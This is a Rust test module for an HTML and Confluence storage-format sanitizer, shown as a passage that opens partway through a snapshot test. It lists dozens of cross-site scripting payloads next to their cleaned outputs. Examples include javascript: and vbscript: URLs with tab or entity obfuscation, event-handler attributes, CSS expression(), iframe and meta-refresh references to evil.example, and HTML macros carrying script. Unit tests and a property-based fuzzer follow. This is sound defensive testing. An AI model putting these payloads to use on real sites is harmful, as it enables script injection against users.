            <a href="java&Tab;script:alert(1)">named tab</a>
            → <a>named tab</a>
            <a href="&#1;javascript:alert(1)">control character</a>
            → <a>control character</a>
            <a href="vbscript:msgbox(1)">vb</a>
            → <a>vb</a>
            <a href="VBScript:msgbox(1)">vb upper</a>
            → <a>vb upper</a>
            <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>
            → <a>data</a>
            <a href="DATA:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">data upper</a>
            → <a>data upper</a>
            <a href="livescript:alert(1)">livescript</a>
            → <a>livescript</a>
            <a href="https://example.com" onclick="alert(1)">real link with handler</a>
            → <a href="https://example.com">real link with handler</a>
            <a href="https://example.com" style="background:url(javascript:alert(1))">styled link</a>
            → <a href="https://example.com">styled link</a>
            <a href="x" xlink:href="javascript:alert(1)">xlink</a>
            → <a href="x">xlink</a>
            <iframe src="javascript:alert(1)"></iframe>
            → 
            <iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
            → 
            <IFRAME SRC="https://evil.example"></IFRAME>
            → 
            <frameset><frame src="javascript:alert(1)" /></frameset>
            → 
            <object data="javascript:alert(1)"></object>
            → 
            <embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" />
            → 
            <applet code="Evil.class">no</applet>
            → 
            <meta http-equiv="refresh" content="0;url=javascript:alert(1)" />
            → 
            <META HTTP-EQUIV="refresh" CONTENT="0; URL=https://evil.example">
            → 
            <link rel="stylesheet" href="javascript:alert(1)" />
            → 
            <base href="javascript:alert(1)//" />
            → 
            <style>@import 'https://evil.example/x.css';</style>
            → 
            <span style="width: expression(alert(1))">expression</span>
            → <span>expression</span>
            <span style="background-image: url('javascript:alert(1)')">url</span>
            → <span>url</span>
            <table><colgroup><col style="width: expression(alert(1))" /><col style="width: 50%;" /></colgroup><tr><td background="javascript:alert(1)">cell</td></tr></table>
            → <table><colgroup><col /><col style="width: 50%;" /></colgroup><tr><td>cell</td></tr></table>
            <div style="behavior: url(xss.htc)">behavior</div>
            → behavior
            <form action="javascript:alert(1)"><input type="submit" /></form>
            → 
            <button formaction="javascript:alert(1)">go</button>
            → 
            <input onfocus="alert(1)" autofocus="autofocus" />
            → 
            <textarea onfocus="alert(1)">text</textarea>
            → 
            <select onfocus="alert(1)"><option>one</option></select>
            → 
            <template><script>alert(1)</script></template>
            → 
            <noscript><p title="&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;">x</p></noscript>
            → 
            <video><source onerror="alert(1)" /></video>
            → 
            <audio src="x" onerror="alert(1)"></audio>
            → 
            <details open="open" ontoggle="alert(1)"><summary>s</summary></details>
            → s
            <marquee onstart="alert(1)">marquee</marquee>
            → marquee
            <ac:structured-macro ac:name="html"><ac:plain-text-body><![CDATA[<script>alert(1)</script>]]></ac:plain-text-body></ac:structured-macro>
            → 
            <ac:structured-macro ac:name="HTML"><ac:plain-text-body><![CDATA[<img src=x onerror=alert(1)>]]></ac:plain-text-body></ac:structured-macro>
            → 
            <ac:structured-macro ac:name="html-include"><ac:parameter ac:name="url">https://evil.example/x.html</ac:parameter></ac:structured-macro>
            → 
            <ac:structured-macro ac:name="iframe"><ac:parameter ac:name="src">javascript:alert(1)</ac:parameter></ac:structured-macro>
            → 
            <ac:structured-macro ac:name="widget"><ac:parameter ac:name="url">https://evil.example</ac:parameter></ac:structured-macro>
            → 
            <ac:structured-macro ac:name="info"><ac:rich-text-body><p onclick="alert(1)">inside</p><script>alert(1)</script></ac:rich-text-body></ac:structured-macro>
            → <ac:structured-macro ac:name="info"><ac:rich-text-body><p>inside</p></ac:rich-text-body></ac:structured-macro>
            <ac:structured-macro ac:name="info"><ac:rich-text-body><ac:structured-macro ac:name="html"><ac:plain-text-body><![CDATA[<script>alert(1)</script>]]></ac:plain-text-body></ac:structured-macro></ac:rich-text-body></ac:structured-macro>
            → <ac:structured-macro ac:name="info"><ac:rich-text-body></ac:rich-text-body></ac:structured-macro>
            <ac:structured-macro ac:name="html" ac:name="info"><ac:plain-text-body><![CDATA[<script>alert(1)</script>]]></ac:plain-text-body></ac:structured-macro>
            → 
            <ac:structured-macro ac:name=" html "><ac:plain-text-body><![CDATA[<script>alert(1)</script>]]></ac:plain-text-body></ac:structured-macro>
            → 
            <ac:structured-macro ac:name="code"><ac:plain-text-body><![CDATA[]]]]><![CDATA[><script>alert(1)</script>]]></ac:plain-text-body></ac:structured-macro>
            → <ac:structured-macro ac:name="code"><ac:plain-text-body><![CDATA[]]]]><![CDATA[><script>alert(1)</script>]]></ac:plain-text-body></ac:structured-macro>
            <ac:plain-text-body><![CDATA[<script>alert(1)</script>]]></ac:plain-text-body>
            → 
            <ac:parameter ac:name="x"><script>alert(1)</script></ac:parameter>
            → 
            <ac:link><ri:url ri:value="javascript:alert(1)" /><ac:link-body>click</ac:link-body></ac:link>
            → <ac:link><ac:link-body>click</ac:link-body></ac:link>
            <ac:image><ri:url ri:value="javascript:alert(1)" /></ac:image>
            → 
            <ri:page ri:content-title="x" onmouseover="alert(1)" />
            → <ri:page ri:content-title="x" />
            <ac:emoticon ac:name="smile&quot; onload=&quot;alert(1)" />
            → <ac:emoticon />
            <p><![CDATA[<script>alert(1)</script>]]></p>
            → <p>&lt;script&gt;alert(1)&lt;/script&gt;</p>
            <p>&lt;script&gt;alert(1)&lt;/script&gt;</p>
            → <p>&lt;script&gt;alert(1)&lt;/script&gt;</p>
            <p>&#60;script&#62;alert(1)&#60;/script&#62;</p>
            → <p>&#60;script&#62;alert(1)&#60;/script&#62;</p>
            <!--<script>alert(1)</script>-->
            → 
            <p><!--[if gte IE 4]><script>alert(1)</script><![endif]--></p>
            → <p></p>
            <?xml-stylesheet href="javascript:alert(1)"?><p>pi</p>
            → <p>pi</p>
            <div><div><div><script>alert(1)</script></div></div></div>
            → 
            <scr<script>ipt>alert(1)</script>
            ✗ invalid markup: expected a tag name after `<` at byte 0, found `scr<script`
            <script>alert(1)
            ✗ invalid markup: expected </script> at byte 16 (end of input) to close the element opened at byte 0
            <p>unclosed <b>bold</p>
            ✗ invalid markup: expected </b> at byte 19, found </p>
            <a href="https://example.com/?q=<script>">bad attribute</a>
            → <a href="https://example.com/?q=&lt;script&gt;">bad attribute</a>
            <p title="x" title="y" onclick="a" onclick="b">duplicates</p>
            → <p>duplicates</p>
            <time datetime="2024-05-01&quot; onload=&quot;alert(1)">date</time>
            → <time>date</time>
            <h1 id="x" class="y" onmouseenter="alert(1)">heading</h1>
            → <h1>heading</h1>
            <table onmouseover="alert(1)" class="wrapped&quot; onclick=&quot;x"><tr><td>t</td></tr></table>
            → <table><tr><td>t</td></tr></table>
            <span><svg><animate onbegin="alert(1)" attributeName="x" dur="1s" /></svg></span>
            → <span></span>
            <a href="//evil.example/x" target="_blank">protocol relative</a>
            → <a href="//evil.example/x">protocol relative</a>
            <a href="mailto:someone@example.com?subject=hi">mail</a>
            → <a href="mailto:someone@example.com?subject=hi">mail</a>
            <a href="https://example.com/a?b=1&amp;c=2">query</a>
            → <a href="https://example.com/a?b=1&amp;c=2">query</a>
        "##]].assert_eq(&outputs);
    }

    #[test]
    fn the_example_page_passes_through_byte_for_byte() {
        assert_eq!(clean(PAGE), PAGE);
    }

    #[test]
    fn what_the_offline_provider_renders_passes_through_byte_for_byte() {
        assert_eq!(clean(OFFLINE_SECTION), OFFLINE_SECTION);
    }

    #[test]
    fn text_of_a_removed_element_is_kept_and_escaped() {
        expect![[r#"<p>one two &lt;3 &amp; more</p>"#]].assert_eq(&clean(
            "<p><div>one <font color=\"red\">two</font></div> &lt;3 &amp; more</p>",
        ));
    }

    #[test]
    fn the_content_of_scripts_styles_and_forms_is_dropped_entirely() {
        expect![[r#"<p>before  after</p>"#]].assert_eq(&clean(
            "<p>before <script>alert(1)</script><style>p{}</style><form><p>field</p></form> after</p>",
        ));
    }

    #[test]
    fn a_macro_that_is_not_allowed_keeps_its_rich_text_but_not_its_raw_input() {
        expect![[r#"<p>visible</p>"#]].assert_eq(&clean(concat!(
            "<ac:structured-macro ac:name=\"html\"><ac:parameter ac:name=\"x\">param</ac:parameter>",
            "<ac:plain-text-body><![CDATA[<b>raw</b>]]></ac:plain-text-body>",
            "<ac:rich-text-body><p>visible</p></ac:rich-text-body></ac:structured-macro>",
        )));
    }

    #[test]
    fn an_allowed_macro_name_is_written_in_lowercase() {
        expect![[r#"<ac:structured-macro ac:name="info"><ac:rich-text-body><p>x</p></ac:rich-text-body></ac:structured-macro>"#]]
            .assert_eq(&clean("<AC:STRUCTURED-MACRO AC:NAME=\"Info\"><ac:rich-text-body><p>x</p></ac:rich-text-body></ac:structured-macro>"));
    }

    #[test]
    fn cdata_is_kept_only_inside_a_code_body_and_split_at_its_terminator() {
        expect![[r#"<p>a &lt;b&gt; c</p><ac:structured-macro ac:name="code"><ac:plain-text-body><![CDATA[x]]]]><![CDATA[>y]]></ac:plain-text-body></ac:structured-macro>"#]]
            .assert_eq(&clean(concat!(
                "<p>a <![CDATA[<b>]]> c</p>",
                "<ac:structured-macro ac:name=\"code\"><ac:plain-text-body><![CDATA[x]]]]><![CDATA[>y]]></ac:plain-text-body></ac:structured-macro>",
            )));
    }

    #[test]
    fn links_keep_only_http_https_mailto_and_relative_urls() {
        let cases = [
            ("https://example.com/a?b=1&c=2", true),
            ("http://example.com", true),
            ("mailto:a@example.com", true),
            ("/wiki/spaces/X", true),
            ("../sibling#part", true),
            ("#anchor", true),
            ("?q=a:b", true),
            ("page:with-colon-after-slash/x", false),
            ("javascript:alert(1)", false),
            (" \u{1}JAVASCRIPT:alert(1)", false),
            ("java\tscript:alert(1)", false),
            ("&#106avascript:alert(1)", false),
            ("javascript&colon;alert(1)", false),
            ("data:text/html,x", false),
            ("vbscript:x", false),
            ("ftp://example.com", false),
        ];
        for (url, safe) in cases {
            assert_eq!(is_safe_url(url), safe, "{url}");
        }
    }

    #[test]
    fn a_link_with_a_dangerous_url_loses_only_its_href() {
        expect![[r#"<p><a title="t">x</a></p>"#]].assert_eq(&clean(
            "<p><a href=\"jav&#x09;ascript:alert(1)\" title=\"t\" onclick=\"x\">x</a></p>",
        ));
    }

    #[test]
    fn a_column_keeps_a_plain_width_and_loses_any_other_style() {
        expect![[r#"<table><colgroup><col style="width: 30.0%;" /><col /><col /></colgroup></table>"#]]
            .assert_eq(&clean(concat!(
                "<table><colgroup><col style=\"width: 30.0%;\" /><col style=\"width: expression(alert(1))\">",
                "<col style=\"width: 10px; background: url(x)\"></colgroup></table>",
            )));
    }

    #[test]
    fn attribute_values_are_decoded_checked_and_re_escaped() {
        expect![[r#"<p><ac:link><ri:page ri:content-title="a &amp; &quot;b&quot; &lt;c&gt; 'd'" /></ac:link></p>"#]]
            .assert_eq(&clean("<p><ac:link><ri:page ri:content-title='a &amp; \"b\" &lt;c> &#39;d&#39;' /></ac:link></p>"));
    }

    #[test]
    fn unknown_entities_lone_ampersands_and_forbidden_characters_become_plain_text() {
        expect![[r#"<p>&amp;bogus; R&amp;D &amp;#1; &nbsp;&#8364; ab</p>"#]]
            .assert_eq(&clean("<p>&bogus; R&D &#1; &nbsp;&#8364; a\u{1}b</p>"));
    }

    #[test]
    fn a_byte_order_mark_that_ends_up_first_is_dropped() {
        assert_eq!(clean("\u{16}\u{feff}\u{feff}<p>a</p>"), "<p>a</p>");
        assert_eq!(clean("\u{feff}<p>a\u{feff}</p>"), "<p>a\u{feff}</p>");
    }

    #[test]
    fn comments_and_processing_instructions_are_removed() {
        assert_eq!(
            clean("<?xml version=\"1.0\"?><!-- c --><p>a<!-- b --></p>"),
            "<p>a</p>"
        );
    }

    #[test]
    fn void_elements_are_written_self_closed() {
        assert_eq!(
            clean("<p>a<br>b<BR/>c<img src=\"x.png\"></p><hr>"),
            "<p>a<br />b<br />c</p><hr />"
        );
    }

    #[test]
    fn malformed_input_is_an_error_not_a_guess() {
        for input in [
            "<p>unclosed",
            "<p><b></p>",
            "a < b",
            "<p>a</p></div>",
            "<![CDATA[x",
        ] {
            assert!(
                matches!(sanitize(input), Err(DocumentError::InvalidMarkup(_))),
                "{input}"
            );
        }
        expect![[r#"invalid markup: expected </p> at byte 11 (end of input) to close the element opened at byte 0"#]]
            .assert_eq(&sanitize("<p>unclosed").map_err(|e| e.to_string()).unwrap_err());
    }

    #[test]
    fn an_output_that_escaping_makes_too_large_is_refused() {
        let input = "&".repeat(MAX_DOCUMENT_BYTES);
        assert_eq!(
            sanitize(&input),
            Err(DocumentError::TooLarge(MAX_DOCUMENT_BYTES as u64))
        );
    }

    /// Markup built from allowed, dropped and unknown elements with hostile attributes.
    #[cfg(not(js_engine))]
    fn markup() -> impl Strategy<Value = String> {
        let leaf = prop_oneof![
            "[a-z &<>\"'é]{0,8}".prop_map(|text| crate::storage::escape_text(&text)),
            Just("&nbsp;".to_owned()),
            Just("&bogus;".to_owned()),
            Just("<br>".to_owned()),
            Just("<![CDATA[x]]]]><![CDATA[>y]]>".to_owned()),
            Just("<img src=x onerror=alert(1)>".to_owned()),
        ];
        leaf.prop_recursive(4, 32, 4, |inner| {
            let names = prop_oneof![
                Just("p"),
                Just("a"),
                Just("td"),
                Just("script"),
                Just("div"),
                Just("svg:script"),
                Just("ac:structured-macro"),
                Just("ac:parameter"),
                Just("ac:plain-text-body"),
                Just("ac:rich-text-body"),
            ];
            let attributes = prop_oneof![
                Just(""),
                Just(" href=\"javascript:alert(1)\""),
                Just(" href=\"https://x.example/?a=1&amp;b\""),
                Just(" onclick=\"alert(1)\""),
                Just(" ac:name=\"code\""),
                Just(" ac:name=\"html\""),
                Just(" style=\"width: 5%\""),
            ];
            (names, attributes, prop::collection::vec(inner, 0..4)).prop_map(
                |(name, attributes, children)| {
                    format!("<{name}{attributes}>{}</{name}>", children.concat())
                },
            )
        })
    }

    #[cfg(not(js_engine))]
    #[cfg(not(js_engine))]
    proptest! {
        #[test]
        fn any_generated_markup_comes_out_harmless_and_stable(input in markup()) {
            let output = clean(&input);
            prop_assert!(hazards(&output).is_empty(), "{} → {}", input, output);
            prop_assert_eq!(clean(&output), output);
        }
    }
}
